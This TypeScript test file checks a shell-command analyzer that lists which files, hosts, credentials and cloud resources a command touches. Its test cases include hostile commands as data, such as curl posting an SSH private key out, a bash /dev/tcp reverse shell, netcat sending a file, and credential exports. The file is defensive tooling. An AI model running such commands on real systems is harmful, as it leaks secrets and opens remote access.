import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../../collector/pipeline/shell/index.ts';
import { shellResources } from '../../../../collector/pipeline/resources/shell-resources.ts';

const CONTEXT = { home: '/home/dev', cwd: '/home/dev/app', platform: 'linux' } as const;
const resourcesOf = (command: string): string[] =>
  shellResources(analyzeShell(command, CONTEXT), CONTEXT).map(
    (item) => `${item.kind} ${item.access} ${item.value}`,
  );

const APP = '/home/dev/app';
const password = ['pass', 'word-of-nobody'].join('');

describe('what is no file of this machine', () => {
  it('a named volume of a container engine', () => {
    expect(resourcesOf('docker run -v data:/var/lib/x alpine ls')).not.toContain(`file write ${APP}/data`);
  });
});

describe('resources of a command line', () => {
  it.each<readonly [string, ...string[]]>([
    ['cat a b > c', `file write ${APP}/c`, `file read ${APP}/a`, `file read ${APP}/b`],
    ['cat < in 2>> err', `file read ${APP}/in`, `file write ${APP}/err`],
    ['sed -i s/a/b/ x.ts', `file write ${APP}/x.ts`],
    ['sed -n 1,9p x.ts', `file read ${APP}/x.ts`],
    ['cp -r a b /tmp/', `file read ${APP}/a`, `file read ${APP}/b`, 'file write /tmp'],
    ['mv a b', `file delete ${APP}/a`, `file write ${APP}/b`],
    ['rm -rf ~/x ../y', 'file delete /home/dev/x', 'file delete /home/dev/y'],
    ['grep -rn foo src', `file read ${APP}/src`],
    ['grep -e foo -e bar src', `file read ${APP}/src`],
    ['chmod 600 k', `file write ${APP}/k`],
    ['docker run -v /:/host alpine ls', 'file write /'],
    ['docker run -v ~/.ssh:/k:ro alpine ls', 'file read /home/dev/.ssh'],
    ['podman run --mount type=bind,source=/etc,target=/e,readonly alpine ls', 'file read /etc'],
    ['ls | tee -a log', `file write ${APP}/log`],
    ['dd if=/dev/sda of=out', 'file read /dev/sda', `file write ${APP}/out`],
    ['tar czf o.tgz ~/.aws', `file write ${APP}/o.tgz`, 'file read /home/dev/.aws'],
    ['tar xzf o.tgz -C /opt', `file read ${APP}/o.tgz`, 'file write /opt'],
    ["find . -name '*.log' -delete", `file delete ${APP}/**/*.log`],
    ['find / -fprint /tmp/o', 'file write /tmp/o'],
    ['cd /tmp && rm x', 'file delete /tmp/x'],
    ['./run.sh a', `file execute ${APP}/run.sh`],
    ['bash x.sh', `file execute ${APP}/x.sh`],
    ['python3 tool.py in', `file execute ${APP}/tool.py`],
    [
      'curl -sSLo out -d @~/.ssh/id_rsa https://ex.example.com/p?q',
      `file write ${APP}/out`,
      'file read /home/dev/.ssh/id_rsa',
      'url write https://ex.example.com/p',
      'host connect ex.example.com',
    ],
    ['curl -F f=@x.zip http://0x7f000001/', `file read ${APP}/x.zip`, 'host connect 127.0.0.1'],
    ['curl ex.example.com/x', 'host connect ex.example.com'],
    ['wget ex.example.com/x -O y', `file write ${APP}/y`, 'host connect ex.example.com'],
    ['scp x.txt u@h.example.com:/tmp', `file read ${APP}/x.txt`, 'host connect h.example.com'],
    ['rsync -a ~/x h.example.com:/y', 'file read /home/dev/x', 'host connect h.example.com'],
    ['ssh -p 2 u@h.example.com', 'host connect h.example.com'],
    ['nc 192.0.2.1 99 < f', 'host connect 192.0.2.1', `file read ${APP}/f`],
    ['bash -i >& /dev/tcp/192.0.2.1/99 0>&1', 'host connect 192.0.2.1'],
    ['dig @192.0.2.53 a.example.com', 'host connect 192.0.2.53', 'host connect a.example.com'],
    ['git clone git@github.com:o/r.git', 'repository read github.com/o/r', 'host connect github.com'],
    ['git push https://github.com/o/r.git main', 'repository publish github.com/o/r'],
    ['git config --global core.hooksPath x', 'file write /home/dev/.gitconfig'],
    ['gh repo create o/r --public', 'repository write github.com/o/r'],
    [
      `psql postgres://u:${password}@db.example.com/app -c "drop table x"`,
      'database delete db.example.com/app',
    ],
    ['mysql -h db.example.com app -e "update t set a=1"', 'database write db.example.com/app'],
    ['redis-cli -h c.example.com flushall', 'host connect c.example.com'],
    ['aws s3 cp a s3://bucket/x', 'cloud write aws:s3:bucket'],
    ['aws ec2 terminate-instances --instance-ids i', 'cloud delete aws:ec2'],
    ['aws ec2 describe-instances', 'cloud read aws:ec2'],
    ['kubectl -n prod delete pod x', 'cloud delete k8s:current/prod'],
    ['terraform destroy', `cloud delete terraform:${APP}`],
    ['gcloud compute instances delete x', 'cloud delete gcp:compute/instances'],
    ['gh auth token', 'credential read github'],
    ['aws configure export-credentials', 'credential read aws'],
    ['security find-generic-password -w', 'credential read keychain'],
    ['npm i -D left-pad@1.3.0 chalk', 'package execute npm:left-pad@1.3.0', 'package execute npm:chalk'],
    ['npx -y create-x@latest a', 'package execute npm:create-x@latest'],
    ['pip install -r req.txt requests==2', 'package execute pypi:requests==2'],
    ['uv pip install x', 'package execute pypi:x'],
    ['cargo publish', `package publish cargo:${APP}`],
    ['python3 -c "open(\'/etc/passwd\')"', 'file read /etc/passwd'],
    [
      'node -e \'fs.rmSync("/tmp/x"); fetch("https://ex.example.com/a")\'',
      'file delete /tmp/x',
      'host connect ex.example.com',
    ],
  ])('%s', (command, ...expected) => {
    expect(resourcesOf(command)).toEqual(expect.arrayContaining(expected));
  });

  it('leaves out what is no file', () => {
    expect(resourcesOf('cat - > /dev/null 2>&1')).toEqual([]);
    expect(resourcesOf('rm -rf $UNKNOWN/x')).toEqual([]);
    expect(resourcesOf("grep 'http://ex.example.com' -")).toEqual([]);
  });
  it('leaves out files of other machines and containers', () => {
    expect(resourcesOf('docker exec c cat /etc/shadow').filter((item) => item.startsWith('file'))).toEqual(
      [],
    );
    expect(resourcesOf('ssh h.example.com cat /etc/shadow')).toEqual(['host connect h.example.com']);
  });
  it('never holds a password or a query', () => {
    const seen = resourcesOf(
      `curl "https://u:${password}@ex.example.com/?t=${password}"; git clone https://${password}@ex.example.com/r; psql postgres://u:${password}@db.example.com/a; mongosh mongodb://u:${password}@m.example.com/b`,
    );
    expect(seen.length).toBeGreaterThan(4);
    expect(seen.join('\n')).not.toContain(password);
  });
  it('is bounded, and each resource stands once', () => {
    const many = resourcesOf(`cat ${Array.from({ length: 1_000 }, (_, i) => `f${i}`).join(' ')}`);
    expect(many.length).toBe(200);
    expect(resourcesOf('cat a; cat a; cat ./a')).toEqual([`file read ${APP}/a`]);
    const names = Array.from({ length: 40 }, (_, i) => `f${i}`).join(' ');
    const often = resourcesOf(`cat ${names} ${names}; rm ${names}; cat ${names}`);
    expect(often.length).toBe(80);
    expect(new Set(often).size).toBe(80);
  });
  it('never throws', () => {
    const word = fc.constantFrom(
      'curl',
      'git',
      'aws',
      'tar',
      'find',
      'npm',
      'psql',
      'kubectl',
      'sed',
      'constructor',
      '-o',
      '-d',
      '@',
      '=',
      '://',
      's3://',
      'a:b',
      '~',
      '-',
      '--',
      '__proto__',
      '\\\\?\\',
      '[::',
      '%',
      '\0',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(word, fc.string({ maxLength: 8 })), { maxLength: 12 }), (words) => {
        for (const item of shellResources(analyzeShell(words.join(' '), CONTEXT), CONTEXT))
          expect(item.value).not.toBe('');
      }),
      { numRuns: 1_000 },
    );
  });
});
